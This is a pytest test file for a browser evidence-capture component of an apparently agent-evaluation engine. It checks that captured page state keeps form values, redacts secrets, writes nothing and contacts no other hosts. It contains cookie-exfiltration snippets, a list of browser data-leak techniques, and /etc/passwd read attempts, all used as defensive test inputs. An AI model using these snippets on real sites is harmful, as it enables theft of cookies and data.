"""The end of a run is captured in the browser as it is, without changing anything and without its secrets."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.async_api import Browser

from app.engine.agent.secrets import PREFIX
from app.engine.api.run_api import RunRequest
from app.engine.browser import evidence_capture
from app.engine.browser.evidence_capture import EvidenceLimits, EvidenceSurroundings, capture_evidence
from app.engine.browser.har_recording import HarRecorder
from app.engine.browser.network.write_guard import WriteGuard
from app.engine.browser.page_loading import open_page
from app.engine.browser.session import BrowserSession
from app.engine.core.actions.types import Stop
from app.engine.core.evaluation.run_evidence import EvidenceSource, RunEvidence
from app.engine.core.evaluation.suite import Dialect, HtmlTarget, Oracle, Suite, SuiteTask
from app.engine.engine import Engine
from app.engine.evaluation.evidence_codec import decode_evidence
from app.engine.services.suites import SuiteService
from tests.support.agent_bench import AgentBench, fill
from tests.support.evidence_site import ADMIN, EvidenceSite, evidence_site

QUICK = EvidenceLimits(tabs=1.0, page=2.0, target=3.0, settle=1.0)


@pytest.fixture
def site() -> Iterator[EvidenceSite]:
    with evidence_site() as running:
        yield running


async def _guarded(session: BrowserSession, address: str) -> WriteGuard:
    guard = WriteGuard()
    await guard.watch(session)
    await open_page(session, address)
    return guard


async def _at(
    session: BrowserSession, *targets: HtmlTarget, site: EvidenceSite, admin: str = ""
) -> RunEvidence:
    around = EvidenceSurroundings(bases={"__SHOPPING__": f"{site.url}/"}, shop_admin=admin)
    numbered = [(str(number), target) for number, target in enumerate(targets)]
    return await capture_evidence(session, numbered, around, QUICK)


def _values(evidence: RunEvidence) -> list[str | None]:
    return [target.value for target in evidence.targets]


async def test_fields_carry_what_was_typed_ticked_and_chosen(
    blank: BrowserSession, site: EvidenceSite
) -> None:
    await _guarded(blank, f"{site.url}/form")
    page = blank.page
    await page.fill("#name", 'Emma "Em" Lopez')
    await page.fill("#words", "new <b>words</b>")
    await page.uncheck("#tick")
    await page.check("#other")
    await page.select_option("#kind", "b")
    await page.fill("#secret", "typed-by-the-agent-1")
    before = await page.content()
    found = (await capture_evidence(blank)).html or ""
    assert 'value="Emma &quot;Em&quot; Lopez"' in found
    assert "new &lt;b&gt;words&lt;/b&gt;</textarea>" in found
    assert 'id="tick" type="checkbox">' in found
    assert 'id="other" type="checkbox" checked="">' in found
    assert '<option value="a">A</option><option value="b" selected="">' in found
    assert found.startswith("<!DOCTYPE html><html>")
    for secret in ("typed-by-the-agent-1", "from-the-server-1", "4111111111111111"):
        assert secret not in found
    assert await page.content() == before


async def test_every_tab_is_told_and_whether_one_left_the_sites(
    blank: BrowserSession, site: EvidenceSite
) -> None:
    await _guarded(blank, f"{site.url}/item/1")
    await blank.open_tab()
    await open_page(blank, f"{site.url}/item/2")
    blank.active = 0
    host = site.url.removeprefix("http://")
    own = await capture_evidence(blank, (), EvidenceSurroundings(hosts=frozenset({host})), QUICK)
    assert [(tab.url, tab.title) for tab in own.tabs] == [
        (f"{site.url}/item/1", "/item/1"),
        (f"{site.url}/item/2", "/item/2"),
    ]
    assert (own.active, own.url, own.left_sites) == (0, f"{site.url}/item/1", False)
    assert own.source is EvidenceSource.LIVE
    elsewhere = await capture_evidence(
        blank, (), EvidenceSurroundings(hosts=frozenset({"shop.example"})), QUICK
    )
    assert elsewhere.left_sites
    anywhere = await capture_evidence(blank, (), EvidenceSurroundings(), QUICK)
    assert not anywhere.left_sites


async def test_the_page_in_front_is_read_itself_and_others_in_a_page_that_is_closed_again(
    blank: BrowserSession, site: EvidenceSite
) -> None:
    await _guarded(blank, f"{site.url}/form")
    await blank.page.fill("#name", "typed")
    front = blank.page
    evidence = await _at(
        blank,
        HtmlTarget(locator="document.querySelector('#name').value"),
        HtmlTarget(url="__SHOPPING__/item/4", locator="document.querySelector('h1').textContent"),
        HtmlTarget(url=f"{site.url}/item/5"),
        site=site,
    )
    assert evidence.targets[0].value == "typed"
    assert evidence.targets[1].value == "Page /item/4"
    assert evidence.targets[1].url == f"{site.url}/item/4"
    assert "Page /item/5" in (evidence.targets[2].value or "")
    assert blank.pages == [front]
    assert (blank.page.url, await front.input_value("#name")) == (f"{site.url}/form", "typed")
    assert site.writes == []


@pytest.mark.parametrize(
    ("locator", "value"),
    [
        ("document.querySelector('#nothing')", "None"),  # JavaScript's null, in Python's spelling
        ("document.querySelector('#nothing').textContent", ""),  # it fails: an empty text
        ("document.querySelectorAll('option').length", "2"),
        ("document.querySelector('#tick').checked", "True"),
        ("[...document.querySelectorAll('option')].map(o => o.value)", "['a', 'b']"),
        ("document.querySelector('#entity').textContent", "Fish & chips"),  # entities resolved once more
    ],
)
async def test_a_locator_tells_what_the_published_evaluator_would_see(
    blank: BrowserSession, site: EvidenceSite, locator: str, value: str
) -> None:
    await _guarded(blank, f"{site.url}/form")
    assert _values(await _at(blank, HtmlTarget(locator=locator), site=site)) == [value]


async def test_preparations_are_run_first_and_one_that_fails_ends_them(
    blank: BrowserSession, site: EvidenceSite
) -> None:
    await _guarded(blank, f"{site.url}/item/1")
    read = "document.querySelector('#head').textContent"
    first, fails = (
        "document.querySelector('#head').textContent = 'one'",
        "document.querySelector('#no').click()",
    )
    second = "document.querySelector('#head').textContent = 'two'"
    target = HtmlTarget(url=f"{site.url}/item/2", locator=read, prep_actions=(first, fails, second))
    assert _values(await _at(blank, target, site=site)) == ["one"]


@pytest.mark.parametrize(
    ("url", "locator", "value"),
    [
        (
            "func:reddit_get_post_url('__last_url__')",
            "document.querySelector('h1').textContent",
            "Page /f/books/7/",
        ),
        ("func:shopping_get_latest_order_url()", "document.title", "Not here"),
        ("last", "func:shopping_get_sku_latest_review_author('B00J8RZL7I')", "Emma"),
        ("last", "func:shopping_get_sku_latest_review_rating('B00J8RZL7I')", "100"),
        ("last", "func:shopping_get_sku_latest_review_rating('B0000')", ""),
        ("SITE/members", "func:gitlab_get_project_memeber_role(__page__, 'yjlou')", "Guest"),
        ("SITE/members", "func:gitlab_get_project_memeber_role(__page__, 'nobody')", ""),
        ("last", "func:miniwob_reward()", "0"),
    ],
)
async def test_helpers_find_what_they_are_published_to_find(
    blank: BrowserSession, site: EvidenceSite, url: str, locator: str, value: str
) -> None:
    await _guarded(blank, f"{site.url}/f/books/7/a-long-title/-/comment/9")
    target = HtmlTarget(url=url.replace("SITE", site.url), locator=locator)
    (found,) = (await _at(blank, target, site=site, admin=ADMIN)).targets
    assert (found.value, found.why) == (value, "")
    if "order" in url:
        assert found.url == f"{site.url}/sales/order/view/order_id/187/"
    assert [one for one in site.writes if "integration" not in one] == []


@pytest.mark.parametrize(
    ("target", "why"),
    [
        (
            HtmlTarget(locator="func:shopping_get_sku_latest_review_author('B1')"),
            "SITELORE_SECRET_SHOPPING_ADMIN",
        ),
        (HtmlTarget(url="func:open('/etc/passwd')"), "not one of the published ones"),
        (HtmlTarget(locator="func:reddit_get_post_url(1)"), "other arguments"),
        (HtmlTarget(locator="lambda: 1"), "of no known kind"),
        (HtmlTarget(url="__WIKIPEDIA__/A"), "no address for __WIKIPEDIA__"),
        (HtmlTarget(url="http://elsewhere.example/"), "belongs to no site of the run"),
        (HtmlTarget(url="file:///etc/passwd"), "belongs to no site of the run"),
        (HtmlTarget(url="SITE/slow"), "did not answer within 3 s"),
        (HtmlTarget(url="SITE/hangs", locator="document.title"), "did not answer within 3 s"),
    ],
)
async def test_what_can_not_be_read_is_told_and_the_rest_goes_on(
    blank: BrowserSession, site: EvidenceSite, target: HtmlTarget, why: str
) -> None:
    await _guarded(blank, f"{site.url}/item/1")
    named = HtmlTarget(url=target.url.replace("SITE", site.url), locator=target.locator)
    evidence = await _at(blank, named, HtmlTarget(locator="document.title"), site=site)
    assert evidence.targets[0].value is None
    assert why in evidence.targets[0].why
    assert evidence.targets[1].value == "/item/1"
    assert len(blank.pages) == 1


async def test_nothing_is_written_and_nothing_told_elsewhere_by_a_suites_scripts(
    blank: BrowserSession, site: EvidenceSite
) -> None:
    with evidence_site() as stranger:
        await _guarded(blank, f"{site.url}/form")
        leak = f"fetch('{stranger.url}/?' + document.cookie)"
        evidence = await _at(
            blank,
            HtmlTarget(locator="document.querySelector('#save').click()"),
            HtmlTarget(locator="document.querySelector('form').submit()"),
            HtmlTarget(url=f"{site.url}/form", locator="document.querySelector('#save').click()"),
            HtmlTarget(url=f"{site.url}/form", locator=f"document.title + ({leak}, '')"),
            HtmlTarget(locator=f"document.title + (new Image().src = '{stranger.url}/pixel', '')"),
            HtmlTarget(locator="document.title"),
            site=site,
        )
        assert evidence.targets[3].value == "Form"
        assert evidence.targets[-1].value is not None
        assert site.writes == []
        assert stranger.requests == []


_LEAKS = (
    "window.open('{0}/?' + document.title)",
    "(() => {{ const a = document.createElement('a'); a.href = '{0}/anchor'; a.target = '_blank';"
    " document.body.append(a); a.click(); }})()",
    "(() => {{ const f = document.createElement('iframe'); f.src = '{0}/frame'; document.body.append(f); }})()",
    "new EventSource('{0}/events')",
    "navigator.sendBeacon('{0}/beacon', document.title)",
    "new WebSocket('{0}/socket'.replace('http', 'ws'))",
    "new Worker(URL.createObjectURL(new Blob([\"fetch('{0}/worker', {{mode: 'no-cors'}})\"])))",
    "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('{0}/shared', {{mode: 'no-cors'}})\"])))",
    "(() => {{ window.open('about:blank').fetch('{0}/blank', {{mode: 'no-cors'}}); }})()",
    "(() => {{ window.open('about:blank').location = '{0}/late'; }})()",
    "(() => {{ window.open('about:blank').document.write('<img src=\"{0}/picture\">'); }})()",
    "(() => {{ window.location = '{0}/away'; }})()",
)


async def test_no_window_or_worker_of_a_suites_script_tells_another_host_and_windows_are_closed(
    blank: BrowserSession, site: EvidenceSite
) -> None:
    with evidence_site() as stranger:
        await _guarded(blank, f"{site.url}/form")
        await blank.open_tab()
        await open_page(blank, f"{site.url}/form")
        scripts = [script.format(stranger.url) for script in _LEAKS]
        evidence = await _at(
            blank,
            *(HtmlTarget(locator="document.title", prep_actions=(script,)) for script in scripts),
            *(
                HtmlTarget(url=f"{site.url}/form", locator="document.title", prep_actions=(script,))
                for script in scripts
            ),
            site=site,
        )
        assert evidence.targets[0].value == "Form"
        await blank.page.wait_for_timeout(500)
        assert stranger.requests == []
        assert len(blank.pages) == 2
        # Afterwards pages may ask others again.
        await blank.pages[0].evaluate(f"fetch('{stranger.url}/later', {{mode: 'no-cors'}})")
        assert len(stranger.requests) == 1


async def test_a_page_in_front_that_hangs_costs_its_time_limit_once(
    blank: BrowserSession, site: EvidenceSite
) -> None:
    await _guarded(blank, f"{site.url}/item/1")
    await blank.page.evaluate("setTimeout(() => { for (;;); }, 0)")
    evidence = await _at(
        blank,
        HtmlTarget(locator="document.title"),
        HtmlTarget(),
        HtmlTarget(url=f"{site.url}/item/2", locator="document.title"),
        site=site,
    )
    assert evidence.html is None
    assert evidence.tabs[0].url == f"{site.url}/item/1"
    assert "did not answer for 2 s" in evidence.notes[0]
    assert [target.value is None for target in evidence.targets[:2]] == [True, True]
    await blank.renew()  # a page that hangs can't be closed by the fixture in time


async def test_a_browser_that_is_gone_leaves_a_note(chromium: Browser, site: EvidenceSite) -> None:
    context = await chromium.new_context()
    session = BrowserSession(await context.new_page())
    await context.close()
    evidence = await capture_evidence(session, [("0", HtmlTarget())])
    assert (evidence.tabs, evidence.url) == ((), None)
    assert "could not be read" in evidence.notes[0]


async def test_too_many_targets_are_not_all_read(
    blank: BrowserSession, site: EvidenceSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(evidence_capture, "MAX_TARGETS", 2)
    await _guarded(blank, f"{site.url}/item/1")
    evidence = await _at(blank, *[HtmlTarget(locator="document.title")] * 3, site=site)
    assert len(evidence.targets) == 2
    assert evidence.notes == ("only 2 of 3 targets were read",)


async def test_requests_are_recorded_from_the_first_one(blank: BrowserSession, site: EvidenceSite) -> None:
    recorder = await HarRecorder.start(blank)
    await _guarded(blank, f"{site.url}/item/1")
    archive, why = await recorder.stop()
    recorder.discard()
    assert why == ""
    assert archive is not None
    assert archive["log"]["entries"][0]["request"]["url"] == f"{site.url}/item/1"


@pytest.mark.smoke
async def test_a_run_keeps_its_evidence_without_secrets_and_without_the_oracle(
    tmp_path: Path, chromium: Browser, site: EvidenceSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(os.environ, f"{PREFIX}CODE", "hush-hush-77")
    oracle = Oracle(
        evaluators=("program_html",),
        html=(
            HtmlTarget(
                locator="document.querySelector('#secret').value", exact_match="required-only-by-the-oracle"
            ),
            HtmlTarget(
                url=f"{site.url}/item/9",
                locator="document.title",
                must_include=("required-too",),
                alternatives=(HtmlTarget(url=f"{site.url}/item/8", locator="document.title"),),
            ),
            HtmlTarget(url="func:reddit_get_post_url('__last_url__')", locator="document.title"),
        ),
    )
    suite = Suite(
        name="own",
        form="sitelore",
        dialect=Dialect.SITELORE,
        sha256="0" * 64,
        tasks=(SuiteTask(id="t1", intent="Fill in", oracle=oracle),),
    )

    async def found(self: SuiteService, name: str) -> Suite:
        assert name == "own"
        return suite

    monkeypatch.setattr(SuiteService, "suite", found)
    request = RunRequest(
        intent="Type {secret:CODE} as password",
        start_url=f"{site.url}/form",
        kb="none",
        suite="own",
        task_id="t1",
        har=True,
    )
    engine = await Engine.open(tmp_path / "workspace")
    bench = AgentBench(engine, monkeypatch)
    bench.share(chromium)
    bench.script([fill("Password", "{secret:CODE}"), Stop("the code is hush-hush-77")])
    went = bench.went(await engine.run_task(request))
    data = await engine._core.on_store(engine._core.workspace.runs.read_blob, went.run.evidence)
    assert data is not None
    evidence = decode_evidence(data)
    assert [target.target for target in evidence.targets] == ["0", "1", "1.0", "2"]
    assert _values(evidence) == ["REDACTED", "/item/9", "/item/8", "Form"]
    assert evidence.answer == "the code is REDACTED"
    assert evidence.tabs[0].url == f"{site.url}/form"
    assert evidence.har is not None
    assert evidence.har["log"]["entries"][0]["request"]["url"] == f"{site.url}/form"
    for secret in (b"hush-hush-77", b"cookie-of-the-site", b"from-the-server-1"):
        assert secret not in data
    files = [*(await bench.kept(went)).values(), data]
    assert not any(b"required-" in content for content in files)
    folder = bench.export(went)
    assert list(folder.rglob(f"{went.run.evidence}*"))
    await engine.aclose()
